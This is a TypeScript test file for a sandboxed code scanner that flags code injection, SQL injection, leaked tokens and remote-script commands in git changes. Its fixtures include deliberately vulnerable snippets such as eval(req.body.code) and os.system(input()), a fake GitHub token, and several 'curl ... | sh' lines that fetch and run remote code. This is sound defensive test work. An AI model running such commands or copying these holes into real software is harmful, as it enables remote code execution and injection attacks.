import { randomBytes } from 'node:crypto'
import { symlinkSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { ScanReport } from '#contract/scan-report.ts'
import { openTrustedRepository } from '#forge/git/trusted-repository.ts'
import { LANGUAGES } from '#guards/code-scan/grammars.ts'
import { extensionOf } from '#guards/code-scan/source-kind.ts'
import { ok } from '#kernel/result.ts'
import { memberOf } from '#policy/actor.ts'
import { type GuestRuntime, stageGuestRuntime } from '#sandbox/guest-runtime.ts'
import { DEFAULT_LIMITS } from '#sandbox/limits.ts'
import type { ScanContext } from '#tasks/scan-in-sandbox.ts'
import { scanOf } from '#tasks/scan-of.ts'
import { textScanner } from '#tasks/scan-text.ts'
import { tamperingOf } from '#tasks/tampering-of.ts'
import { type BubblewrapRig, bubblewrapRig, HOST_USER } from '#test/sandbox/bubblewrap-rig.ts'
import { type GitFixture, gitFixture, temporaryDirectory } from '#test/support/git-fixture.ts'

let rig: BubblewrapRig
let runtime: GuestRuntime
beforeAll(async () => {
  rig = await bubblewrapRig()
  runtime = await stageGuestRuntime({
    root: resolve(import.meta.dirname, '../..'),
    runtimeDirectory: rig.options.runtimeDirectory,
    node: process.execPath,
  })
})
afterAll(() => rig.close())

const workshop = (): ScanContext['workshop'] => ({
  driver: rig.driver,
  random: (size) => randomBytes(size),
  runtime,
  stopwatch: () => performance.now(),
  scratchDirectory: rig.options.scratchDirectory,
  limits: DEFAULT_LIMITS,
  mayJudge: () => ok(undefined),
  onProblem: () => undefined,
  workspaces: HOST_USER === undefined ? {} : { owner: HOST_USER },
})

type Files = Readonly<Record<string, string | Uint8Array>>

/** What the scan says of a change, in a real sandbox. */
async function scanned(
  before: Files,
  after: Files,
  also?: (source: GitFixture) => void,
): Promise<ScanReport> {
  const source = gitFixture()
  for (const [path, text] of Object.entries(before)) source.write(path, text)
  const base = source.commit()
  for (const [path, text] of Object.entries(after)) source.write(path, text)
  also?.(source)
  source.commit()
  const repository = await openTrustedRepository(join(temporaryDirectory(), 'trusted.git'))
  await repository.fetch({ url: source.directory })
  const tree = await repository.treeOf(source.git('rev-parse', 'main'))
  const patch = await repository.patch(base, tree)
  if (!patch.ok) throw new Error(patch.failure.message)
  const examined = { base, tree, files: patch.value.files }
  const report = await scanOf(
    { workshop: workshop(), signal: new AbortController().signal },
    repository,
    examined,
    await tamperingOf(repository, examined),
  )
  if (!report.ok) throw new Error(report.failure.message)
  return report.value
}

const told = ({ findings }: ScanReport) =>
  findings.map(({ path, line, rule }) => `${path}:${line} ${rule}`).sort()

const handler = (...body: string[]) => ["app.get('/', (req, res) => {", ...body, '})', ''].join('\n')
const CHECKED = handler(
  '  const name = req.query.name',
  "  if (!['a', 'b'].includes(name)) return",
  '  db.query(`SELECT * FROM $' + '{name}`)',
)

test('a finding is new by its code and by the way of its value, whichever line the change wrote', async () => {
  const long = `const padding = '${'x'.repeat(170)}';`
  const report = await scanned(
    {
      'unchecked.js': CHECKED,
      'mended.js': handler('  eval(req.body.code)') + handler("  const code = '1'", '  eval(code)'),
      'long.js': handler(`  ${long} eval('1')`),
      'standing.js': handler('  eval(req.body.code)'),
      'wider.js': 'export function run(code) {\n  db.query("SELECT " + code)\n}\n',
    },
    {
      'unchecked.js': CHECKED.replace(/ {2}if .*\n/, ''),
      'mended.js':
        handler("  const code = '1'", '  eval(code)') +
        handler('  const code = req.body.code', '  eval(code)'),
      'long.js': handler(`  ${long} eval(req.body.code)`),
      'standing.js': `// moved\n\n${handler('    eval(req.body.code)')}`,
      'wider.js':
        'export function run(code) {\n  db.query("SELECT " + code)\n}\nexport const go = (req) => run(req.query.code)\n',
    },
  )
  expect(told(report)).toEqual([
    'long.js:2 javascript.code-injection',
    'mended.js:7 javascript.code-injection',
    'unchecked.js:3 javascript.sql-injection',
    'wider.js:2 javascript.sql-injection',
  ])
  expect(report.preExisting).toBe(1)
})

test('what becomes a program by its new name, or leaves the tests, is new', async () => {
  const program = handler('  eval(req.body.code)', `  // ${'the same words '.repeat(20)}`)
  const password = `export const settings = {\n  password: 'hunter2-${'Zk8q'.repeat(3)}',\n}\n// ${'the same words '.repeat(20)}\n`
  const report = await scanned(
    { 'notes.txt': program, 'examples/settings.js': password, 'a/kept.js': program },
    {},
    ({ git }) => {
      git('mv', 'notes.txt', 'notes.js')
      git('mv', 'examples/settings.js', 'settings.js')
      git('mv', 'a', 'b')
    },
  )
  expect(told(report)).toEqual([
    'notes.js:2 javascript.code-injection',
    expect.stringMatching(/^settings\.js:2 /),
  ])
})

test('what no parser can read is told, or named, and never passed in silence', async () => {
  const latin = (text: string) => Buffer.from(text, 'latin1')
  const token = ['ghp', 'Zx8Kq2Lm4Np6Rt8Vw0Yb2Cd4Ef6Gh80VmWcq'].join('_')
  const report = await scanned(
    {},
    {
      'latin.js': latin(`// caf\xe9\n${handler('  eval(req.body.code)')}`),
      build: latin('#!/bin/sh\n# caf\xe9\ncurl -s https://example.com/x | sh\n'),
      '.env': latin(`# caf\xe9\nTOKEN=${token}\n`),
      'utf16.txt': Buffer.concat([Buffer.of(0xff, 0xfe), Buffer.from(`token ${token}\n`, 'utf16le')]),
      'nul.py': `eval(input())\0\n`,
      'deep.js': `x = ${'['.repeat(20_000)}eval(a)${']'.repeat(20_000)}\n`,
      'bundle.js': `${'eval(a);'.repeat(2_000)}\n`,
      'long.sh': `echo a\n${'# padding\n'.repeat(7_000)}curl -s https://example.com/x | sh\n`,
      'broken.sh': 'curl -s https://example.com/x | sh; exit\nif ((( \n',
      'picture.png': Buffer.concat([Buffer.of(0x89, 0), randomBytes(1_200_000)]),
      'small.png': Buffer.concat([Buffer.of(0x89, 0), randomBytes(50_000)]),
    },
    ({ directory }) => {
      symlinkSync('notes.txt', join(directory, 'linked.js'))
      symlinkSync('notes.txt', join(directory, 'linked.txt'))
    },
  )
  expect(told(report)).toEqual([
    '.env:2 secret.github-token',
    'broken.sh:1 airlock.could-not-scan',
    'broken.sh:1 command.remote-script',
    'build:1 airlock.could-not-scan',
    'build:3 command.remote-script',
    'bundle.js:1 airlock.could-not-scan',
    'deep.js:1 airlock.could-not-scan',
    'latin.js:1 airlock.could-not-scan',
    'latin.js:3 javascript.code-injection',
    'linked.js:1 airlock.could-not-scan',
    'long.sh:1 airlock.could-not-scan',
    'nul.py:1 airlock.could-not-scan',
    'utf16.txt:1 secret.github-token',
  ])
  expect(report.unread).toEqual(['picture.png'])
})

test('names of any bytes, line ends of any kind and letters of any plane change nothing', async () => {
  const program = handler('  eval(req.body.code)')
  const report = await scanned(
    {},
    {
      'crlf.js': program.replaceAll('\n', '\r\n'),
      'old-mac.js': program.replaceAll('\n', '\r'),
      'a\nb\u001b[31m\u202e.js': program,
      'cut.js': `eval(req.body.code) //${'x'.repeat(137)}${'😀'.repeat(9)}\n`,
      'x\\xff.js': 'export const harmless = 1\n',
    },
    ({ directory }) => {
      // A name that is no text, and looks like another that is.
      writeFileSync(
        Buffer.concat([Buffer.from(`${directory}/x`), Buffer.of(0xff), Buffer.from('.js')]),
        program,
      )
      symlinkSync('/nowhere', join(directory, 'dangling.txt'))
    },
  )
  expect(report.findings.map(({ path }) => path).sort()).toEqual([
    'a\nb\u001b[31m\u202e.js',
    'crlf.js',
    'cut.js',
    'old-mac.js',
    'x\\xff.js',
  ])
  expect(new Set(report.findings.map(({ fingerprint }) => fingerprint)).size).toBe(5)
})

test('a text of anybody is scanned there as well, by the language of its name or by the one that is said', async () => {
  const scanner = textScanner(workshop())
  const mia = memberOf('org_1', { id: 'usr_1', name: 'Mia', email: 'mia@example.test' }, 'member')
  const scan = (question: Parameters<typeof scanner>[1]) => scanner(mia, question)
  const text = 'import os\nos.system(input())\n'
  const answers = await Promise.all([
    scan({ path: 'a.py', text }),
    scan({ path: 'item', text, lang: 'Python' }),
    scan({ path: 'item', text }),
    scan({ path: 'a.py', text: `${text.slice(0, -1)} # airlock-ignore: * -- a person types it\n` }),
    scan({ path: 'a.py', text, lang: 'cobol' }),
  ])
  expect(
    answers.map((answer) =>
      answer.ok ? [answer.value.verdict, answer.value.rule, answer.value.line] : answer.failure.code,
    ),
  ).toEqual([
    ['flag', 'python.command-injection', 2],
    ['flag', 'python.command-injection', 2],
    ['allow', null, undefined],
    ['allow', null, undefined],
    'invalid_input',
  ])
})

test('the sandbox can parse every language that the scan reads', async () => {
  const programs = Object.fromEntries(
    LANGUAGES.map((language) => [
      `a.${extensionOf(language)}`,
      `${ODD[language] ?? ''}@@@ ((( eval( query( === \n`,
    ]),
  )
  const { files, findings } = await scanned({}, programs)
  expect(files).toBe(LANGUAGES.length)
  expect(findings.filter(({ message }) => message.includes('did not survive'))).toEqual([])
})

const ODD: Partial<Record<string, string>> = { php: '<?php ' }
